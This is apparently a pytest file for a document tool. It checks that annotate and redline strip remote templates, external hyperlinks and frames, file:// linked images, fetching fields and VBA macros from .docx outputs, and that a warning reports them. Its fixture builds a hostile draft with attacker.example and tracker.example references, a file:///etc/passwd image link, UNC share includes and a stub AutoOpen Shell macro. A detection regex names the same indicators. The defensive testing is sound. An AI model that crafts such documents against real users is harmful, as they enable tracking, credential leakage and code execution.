"""Unsafe package parts carried into outputs (class 4): annotate and redline re-save the draft's package;
what would reach outside the file (a remote template, file:// and http linked images, external frames and
hyperlinks) or run code (a VBA project) is left out of the output, and a warning says so. The draft keeps
them; the output still opens, with the same text."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

from tests.builders import renewal_draft
from tests.hostile.harness import invoke
from tests.hostile.zips import part, rezip

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _relationship(rid: str, kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def _add_rels(rels: bytes, *entries: bytes) -> bytes:
    return rels.replace(b"</Relationships>", b"".join(entries) + b"</Relationships>")


def _hostile(tmp_path: Path) -> Path:
    good = renewal_draft().save(tmp_path / "good.docx")
    document = part(good, "word/document.xml")
    # a hyperlink to an external page and an image linked by file:// (a:blip r:link), in OP text
    hyperlink = (
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdLink"><w:r><w:t>see the report</w:t></w:r></w:hyperlink>'
    ).encode()
    # fields that fetch when Word updates them: a simple one and a complex one
    fields = (
        b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://tracker.example/p.png\" \\d '>"
        b"<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>"
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
        b'"\\\\attacker.example\\share\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        b'<w:r><w:t>included</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    document = document.replace(b"</w:body>", b"<w:p>" + hyperlink + b"</w:p>" + fields + b"</w:body>", 1)
    doc_rels = _add_rels(
        part(good, "word/_rels/document.xml.rels"),
        _relationship("rIdLink", f"{R}/hyperlink", "https://tracker.example/page"),
        _relationship("rIdPic", f"{R}/image", "file:///etc/passwd"),
        _relationship(
            "rIdVba",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            external=False,
        ),
    )
    settings = part(good, "word/settings.xml").replace(
        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl"/></w:settings>'.encode()
    )
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'.encode()
        + _relationship("rIdTpl", f"{R}/attachedTemplate", "http://attacker.example/t.dotm")
        + b"</Relationships>"
    )
    web_settings = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="'
        + R.encode()
        + b'">'
        b'<w:frameset><w:frame><w:name w:val="f"/><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset></w:webSettings>'
    )
    web_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'.encode()
        + _relationship("rIdFrame", f"{R}/frame", "\\\\attacker\\share\\frame.docx")
        + b"</Relationships>"
    )
    content_types = part(good, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    replace = {
        "word/document.xml": document,
        "word/_rels/document.xml.rels": doc_rels,
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": settings_rels,
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell(...) End Sub",
        "[Content_Types].xml": content_types,
    }
    names = zipfile.ZipFile(good).namelist()
    if "word/webSettings.xml" in names:
        replace["word/webSettings.xml"] = web_settings
        replace["word/_rels/webSettings.xml.rels"] = web_rels
    return rezip(good, tmp_path / "hostile.docx", replace)


EXTERNAL = re.compile(
    rb'TargetMode="External"|file://|attacker\.example|tracker\.example|vbaProject|attachedTemplate'
)


def _everything(path: Path) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return b"\n".join(zf.read(name) + name.encode() for name in zf.namelist())


@pytest.mark.parametrize("command", ["annotate", "redline"])
def test_external_references_and_macros_are_left_out_and_said(tmp_path: Path, command: str) -> None:
    draft = _hostile(tmp_path)
    assert EXTERNAL.search(_everything(draft))  # the draft holds them ...
    output = tmp_path / "out.docx"
    result = invoke(command, draft, "-o", output, inputs=[draft])  # ... and keeps them (inputs untouched)
    assert result.exit_code == 0, result.stderr
    assert not EXTERNAL.search(_everything(output)), EXTERNAL.search(_everything(output))
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1 and str(draft) in warnings[0]
    for said in ("remote template", "hyperlink", "linked image", "macros", "2 fields that fetch"):
        assert said in warnings[0], warnings[0]
    # the output is a Word document that reads as the draft does, its hyperlink's words kept
    check = invoke("parse", output, "--format", "json")
    assert check.exit_code == 0, check.stderr
    assert "see the report" in check.stdout and "picture" in check.stdout and "included" in check.stdout


@pytest.mark.parametrize("command", ["annotate", "redline"])
def test_a_clean_draft_gets_no_warning(tmp_path: Path, command: str) -> None:
    draft = renewal_draft().save(tmp_path / "draft.docx")
    result = invoke(command, draft, "-o", tmp_path / "out.docx", inputs=[draft])
    assert result.exit_code == 0
    assert not [line for line in result.stderr.splitlines() if "left out" in line]
